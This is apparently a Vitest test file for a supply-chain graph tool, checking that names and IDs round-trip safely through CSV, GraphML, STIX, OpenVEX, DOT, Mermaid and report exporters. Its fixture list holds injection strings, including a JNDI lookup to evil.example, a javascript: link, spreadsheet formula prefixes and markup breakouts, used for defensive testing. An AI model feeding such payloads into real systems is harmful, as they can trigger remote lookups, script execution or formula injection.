import { afterAll, beforeAll, describe, expect, it, test } from "vitest";
import type { SliceAnswer } from "../../src/exporters/answer.ts";
import { answerExporters } from "../../src/exporters/exporter-registry.ts";
import { unguardFormula } from "../../src/model/formula-guard.ts";
import { faultOfId } from "../../src/model/text-faults.ts";
import { exportedEntities, exportedSlice } from "../../src/service/export/answers.ts";
import { writeAnswer } from "../../src/service/export/write-answer.ts";
import { askSlice } from "../../src/service/questions/slice.ts";
import { loadTopology } from "../../src/topology/topology-source.ts";
import { loadText, newStore, removeStores } from "../service/ingest/fixture.ts";
import { sessionOn } from "../service/session-on.ts";
import { textOf } from "./answers-of.ts";
import { hostileNames } from "./hostile-graph.ts";
import { ownOf, readCytoscape, readDot, readGraphml, readMarkdownTable, readMermaid, rowsOf, stixObjects } from "./readers.ts";

/** Names that go out as they are, and those that older graphs may hold: with what is left of them outside of native. */
const names: readonly (readonly [name: string, goesOut: string])[] = [
  ...hostileNames.map((name) => [name, name] as const),
  ...[
    "__proto__",
    "constructor",
    "'=1",
    " =1",
    "'＠SUM(A1)",
    "''quoted''",
    "# Heading #",
    "1. item",
    "![image](http://evil.example/x.png)",
    "[link](javascript:alert(1))",
    '</data><data key="n0">',
    "<![CDATA[x]]> &amp;quot; &#x41;",
    "a -> b [label=x]; } subgraph {",
    'x"]; y -> z ["',
    "style n0 fill:#f00",
    "n0 --> n1:::end",
    "two\nlines",
    "three\r\n\tlines\n",
    "| a | b |\n| --- | --- |",
    `\${jndi:ldap://evil.example/a} <%= 1 %> {% raw %}`,
    "\\u0041 \\x41 \\",
    "\u200bzero\u200dwidth\ufeff",
  ].map((name) => [name, name] as const),
  ["right\u202eto\u202cleft", "righttoleft"],
  ["\u2067isolated\u2069 \u200emarks\u061c", "isolated marks"],
  ["bell\u0007 and \u001b[31mred\u001b[0m", "bell and [31mred[0m"],
  ["null\u0000 delete\u007f next\u0085line", "null delete nextline"],
  ["half \ud800 of a character\udc00", "half  of a character"],
  ["line\u2028and paragraph\u2029", "line and paragraph "],
  ["tags\u{e0041}\u{e007f}", "tags"],
];

const now = Date.UTC(2026, 6, 1);
/** What is affected, and which it is, as every ID that is one allows. */
const ids = names.map(([name], place) => (faultOfId(name) === undefined ? name : `tool-${place}`));
const affects = ids.map((id) => `affects ${id}`.slice(0, 256));
let answer: SliceAnswer;

beforeAll(async () => {
  const store = await newStore();
  const claims = [{ status: "REPORTED", confidence: 0.9, sources: ["paper"] }];
  await loadText(
    store,
    {
      format: "ai-supply-graph/1",
      sources: [{ id: "paper" }],
      entities: [
        ...ids.map((id) => ({ id, kind: "TOOL", name: id, toolKind: "library" })),
        ...ids.map((_, place) => ({ id: `incident-${place}`, kind: "INCIDENT", name: "x", incidentKind: "package-compromise" })),
      ],
      relationships: ids.map((to, place) => ({ id: affects[place], kind: "AFFECTS", from: `incident-${place}`, to, claims })),
    },
    "hostile.json",
    now,
  );
  const session = sessionOn({ store, topology: await loadTopology(store) }, { now });
  const slice = await exportedSlice(session, await askSlice(session, { maxNodes: 500 }));
  // Only now: some of these names are refused when they are loaded.
  const named = ids.flatMap((id, place) => [id, `incident-${place}`].map((one) => [one, names[place]![0]] as const));
  const entities = new Map(named.map(([id, name]) => [id, { ...slice.entities.get(id)!, name }]));
  answer = { ...slice, entities };
});
afterAll(removeStores);

const written = (format: string, choices = {}) =>
  textOf(writeAnswer(answerExporters.find(({ name }) => name === format)!, answer, choices));

const oneLine = (text: string) => text.replace(/\s+/g, " ").trim();
/** Each ID with its name, of every entity. */
const expected = (asShown: (place: number) => string) =>
  new Map(ids.flatMap((id, place) => [id, `incident-${place}`].map((one) => [one, asShown(place)] as const)));
const asTheyGoOut = () => expected((place) => names[place]![1]);
const asOneLine = () => expected((place) => oneLine(names[place]![1]));
const sorted = (texts: Iterable<unknown>) => [...texts].map(String).sort();

test("there are names that break what takes them for its own, all of them in the answer", () => {
  expect(names.length).toBeGreaterThan(60);
  expect(new Set(ids).size).toBe(names.length);
  expect(ids.filter((id) => !id.startsWith("tool-")).length).toBeGreaterThan(40);
  expect([answer.nodes.length, answer.relationships.size]).toEqual([2 * names.length, names.length]);
});

describe("every ID and every name is found again", () => {
  it("in native, as they were", async () => {
    const { entities, relationships } = JSON.parse(await written("native"));
    const read = entities.map(({ id, name }: { id: string; name: string }) => [id, name]);
    expect(new Map(read)).toEqual(expected((place) => names[place]![0]));
    expect(sorted(relationships.map(({ id }: { id: string }) => id))).toEqual(sorted(affects));
  });

  it("in CSV", async () => {
    const read = rowsOf(await written("csv", { table: "entities" })).map(({ id, name }) => [id!, name!].map(unguardFormula));
    expect(new Map(read as [string, string][])).toEqual(asTheyGoOut());
    const relationships = rowsOf(await written("csv", { table: "relationships" }));
    expect(sorted(relationships.map(({ id }) => unguardFormula(id!)))).toEqual(sorted(affects));
  });

  it("in GraphML", async () => {
    const { nodes, edges, figure } = readGraphml(await written("graphml"));
    expect(new Map(nodes.map((id) => [id, figure(id, "name")]))).toEqual(asTheyGoOut());
    expect(sorted(edges.map(([, , to]) => to))).toEqual(sorted(ids));
  });

  it("in Cytoscape JSON", async () => {
    const read = readCytoscape(await written("cytoscape"));
    expect(new Map(read.nodes.map((id) => [id, read.figure(id, "name")]))).toEqual(asTheyGoOut());
    expect(read.ids).toEqual(expect.arrayContaining(affects));
  });

  it("in STIX", async () => {
    const objects = stixObjects(await written("stix")).filter((one) => ownOf(one)["graph_id"] !== undefined);
    const entities = objects.filter(({ type }) => type !== "relationship");
    expect(new Map(entities.map((one) => [ownOf(one)["graph_id"], one["name"]]))).toEqual(asTheyGoOut());
    const relationships = objects.filter(({ type }) => type === "relationship");
    expect(sorted(relationships.map((one) => ownOf(one)["graph_id"]))).toEqual(sorted(affects));
  });

  it("in OpenVEX, as products and vulnerabilities", async () => {
    const { statements } = JSON.parse(await written("openvex")) as {
      statements: { products: { "@id": string }[]; vulnerability: { name: string; description: string } }[];
    };
    const products = statements.map(({ products: [product] }) => product!["@id"].replace("urn:ai-supply-graph:", ""));
    expect(sorted(products.map(decodeURIComponent))).toEqual(sorted(ids));
    const vulnerabilities = statements.map(({ vulnerability: { name, description } }) => [name, description] as const);
    expect(new Map(vulnerabilities)).toEqual(new Map([...asTheyGoOut()].filter(([id]) => id.startsWith("incident-"))));
  });

  it("in DOT, each name on one line", async () => {
    const { nodes, edges } = readDot(await written("dot"));
    expect(nodes).toEqual(asOneLine());
    expect(sorted(edges.map(([, to]) => to))).toEqual(sorted(ids));
  });

  it("in Mermaid, the names alone, each on one line", async () => {
    expect(sorted(readMermaid(await written("mermaid")))).toEqual(sorted(asOneLine().values()));
  });

  it("in reports, each on one line", async () => {
    expect(sorted(readMarkdownTable(await written("report")).map(([name]) => name))).toEqual(sorted(asOneLine().values()));
    const report = answerExporters.find(({ name }) => name === "report")!;
    const listed = { items: [...answer.entities.values()], keys: [], totalCount: answer.entities.size, hasNextPage: false };
    const list = readMarkdownTable(await textOf(writeAnswer(report, exportedEntities(listed, now))));
    expect(new Map(list.map(([name, , id]) => [id, name]))).toEqual(asOneLine());
  });
});
